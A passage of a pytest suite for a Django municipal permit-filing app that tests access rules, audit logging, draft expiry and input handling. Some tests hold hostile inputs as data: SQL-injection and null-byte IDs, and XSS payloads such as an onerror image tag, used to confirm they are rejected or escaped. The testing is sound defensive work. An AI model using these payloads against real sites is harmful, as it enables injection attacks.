    review.approve(filed, by=president)
    anonymous = Client()
    for url in (route("figures"), route("index")):
        for query in (
            "",
            "?level=commune",
            "?level=office",
            "?year=1999&quarter=9",
            "?within=" + "x" * 50,
            "?level=%00",
            "?within=04.501&level=commune",
        ):
            page = anonymous.get(url + query)
            no_500(page, url + query)
            if page.status_code == 200:
                for name in (applicant.full_name, president.full_name, permits_agent.full_name):
                    assert name not in page.text, (url + query, name)


# --- More of what a dossier must not let through -------------------------------------------------------------------


def test_no_message_is_written_on_an_expired_draft(draft, applicant):
    from raqmana.procedures.services.drafts import expire_drafts

    expire_drafts(now=timezone.now() + timedelta(days=500))
    expire_drafts(now=timezone.now() + timedelta(days=1000))
    draft.refresh_from_db()
    assert draft.state == DossierState.EXPIRED
    signed_in(applicant).post(reverse("procedures:write", args=[draft.pk]), {"body": "Quelqu'un me lit ?"})
    assert not DossierMessage.objects.filter(dossier=draft).exists()


def test_a_site_in_another_commune_is_not_filed_with_this_commune_s_window(
    draft, applicant, applicant_act, birth_data, temara_window
):
    complete(draft, applicant, applicant_act, birth_data)
    filing.save_answers(
        draft,
        {"use": "individual_housing", "area": "100", "site": {"commune": "01.051.01.07", "street": "Douar Ait"}},
        by=applicant,
    )
    with pytest.raises(ValidationError):
        filing.file_dossier(draft, by=applicant)


def test_nobody_decides_their_own_dossier(
    procedure, president, permits_agent, applicant_act, birth_data, temara, temara_window
):
    own = filed_dossier_of(president, procedure, temara, applicant_act, birth_data)
    review.take_up(own, by=permits_agent)
    with pytest.raises((PermissionDenied, ValidationError)):
        review.approve(own, by=president)


def test_a_file_path_is_kept_only_in_its_one_written_form(with_blocks, applicant, temara):
    dossier = filing.start_draft(applicant, with_blocks, commune=temara)
    client = signed_in(applicant)
    statuses = [upload(client, dossier, path, samples.pdf()).status_code for path in ("lots.00.plan", "lots.01.plan")]
    assert statuses == [422, 422], statuses


def test_a_commune_without_an_open_window_is_told_and_the_draft_kept(procedure, applicant, applicant_act, birth_data):
    targuist = Territory.objects.get(code="01.051.01.07")  # its province's window is not open in this test
    draft_ = filing.start_draft(applicant, procedure, commune=targuist)
    complete(draft_, applicant, applicant_act, birth_data)
    answer = signed_in(applicant, "fr").post(f"{API}/dossiers/{draft_.pk}/file")
    refused_in_json(answer, 422)
    draft_.refresh_from_db()
    assert draft_.state == DossierState.DRAFT and draft_.number is None and draft_.answers["area"] == "120.50"


def test_every_office_read_of_a_dossier_and_its_files_is_logged(filed, permits_agent):
    from raqmana.audit.models import AuditEvent

    client = signed_in(permits_agent)
    client.get(reverse("procedures:review", args=[filed.pk]))
    client.get(reverse("procedures:attachment", args=[Attachment.objects.get(dossier=filed).pk]))
    actions = set(
        AuditEvent.objects.filter(target_id=str(filed.pk), actor=permits_agent).values_list("action", flat=True)
    )
    assert {"dossier.read", "dossier.attachment_read"} <= actions


def test_an_agent_assigns_no_one_outside_the_office(filed, permits_agent, agent_elsewhere, applicant):
    with pytest.raises(ValidationError):
        review.assign(filed, agent_elsewhere, by=permits_agent)
    with pytest.raises(ValidationError):
        review.assign(filed, applicant, by=permits_agent)
    with pytest.raises(PermissionDenied):
        review.assign(filed, permits_agent, by=agent_elsewhere)
    filed.refresh_from_db()
    assert filed.assigned_to is None


def test_a_file_not_yet_scanned_is_opened_by_nobody(draft, applicant, scanner_away):
    pending = attachments.attach(draft, "plans", pdf_upload(), by=applicant)
    assert pending.scan == "pending"
    answer = signed_in(applicant).get(reverse("procedures:attachment", args=[pending.pk]))
    assert answer.status_code == 302 and answer["Location"] == reverse("procedures:dossier", args=[draft.pk])


NASTY_IDS = ["0", "-1", "99999999999999999999999", "1e3", "abc", "%00", "1%20OR%201=1", "١٢", "1.5", "+1"]


def test_nasty_ids_in_the_api_s_and_the_pages_addresses_are_never_a_500(filed, applicant, permits_agent):
    citizen, agent = signed_in(applicant), signed_in(permits_agent)
    for bad in NASTY_IDS:
        for method, url in (
            ("get", f"{API}/dossiers/{bad}"),
            ("put", f"{API}/dossiers/{bad}/answers"),
            ("post", f"{API}/dossiers/{bad}/civil-status-link"),
            ("post", f"{API}/dossiers/{bad}/attachments"),
            ("post", f"{API}/dossiers/{bad}/file"),
            ("get", f"/procedures/dossiers/{bad}/"),
            ("get", f"/procedures/attachments/{bad}/"),
            ("post", f"/procedures/dossiers/{bad}/save/"),
        ):
            if method == "get":
                answer = citizen.get(url)
            else:
                answer = getattr(citizen, method)(url, "{}", content_type="application/json")
            no_500(answer, url)
        for url in (f"/procedures/office/{bad}/", f"/procedures/office/{bad}/approve/"):
            no_500(agent.get(url) if url.endswith(f"{bad}/") else agent.post(url), url)


def test_what_an_applicant_types_is_shown_to_the_office_as_text(draft, applicant, applicant_act, birth_data,
                                                                 permits_agent):  # fmt: skip
    complete(draft, applicant, applicant_act, birth_data)
    quoted = 'Atlas" onmouseover="alert(1)'
    checked = filing.save_answers(
        draft,
        {"use": "commercial", "shop_sign": quoted, "area": "90",
         "site": {"commune": "04.501.01.07", "street": "<img src=x onerror=alert(1)>"}},
        by=applicant,
    )  # fmt: skip
    assert "site" in checked.errors  # markup is refused, not stored
    filing.save_answers(
        draft,
        {"use": "commercial", "shop_sign": quoted, "area": "90", "site": {"commune": "04.501.01.07", "street": "x"}},
        by=applicant,
    )
    filed_ = filing.file_dossier(draft, by=applicant)
    page = signed_in(permits_agent).get(reverse("procedures:review", args=[filed_.pk]))
    assert page.status_code == 200 and quoted not in page.text and "Atlas&quot; onmouseover" in page.text


@pytest.mark.parametrize("attempt", range(3))
@race[0]
@race[1]
def test_a_draft_expiring_while_it_is_filed_is_one_or_the_other(
    territories_in_transactional_db, procedure, applicant, applicant_act, birth_data, temara, temara_window, attempt
):
    from raqmana.procedures.services.drafts import expire_drafts

    draft_ = filing.start_draft(applicant, procedure, commune=temara)
    complete(draft_, applicant, applicant_act, birth_data)
    long_ago = timezone.now() - timedelta(days=400)
    Dossier.objects.filter(pk=draft_.pk).update(updated_at=long_ago, expiry_warned_at=long_ago)
    results = at_once(lambda: expire_drafts(), lambda: filing.file_dossier(draft_, by=applicant))
    draft_.refresh_from_db()
    if draft_.state == DossierState.FILED:
        assert results[1][0] == "ok" and draft_.number == 1
    else:
        assert draft_.state == DossierState.EXPIRED and isinstance(results[1][1], ValidationError), results
        assert draft_.number is None and not IssuedDocument.objects.exists()
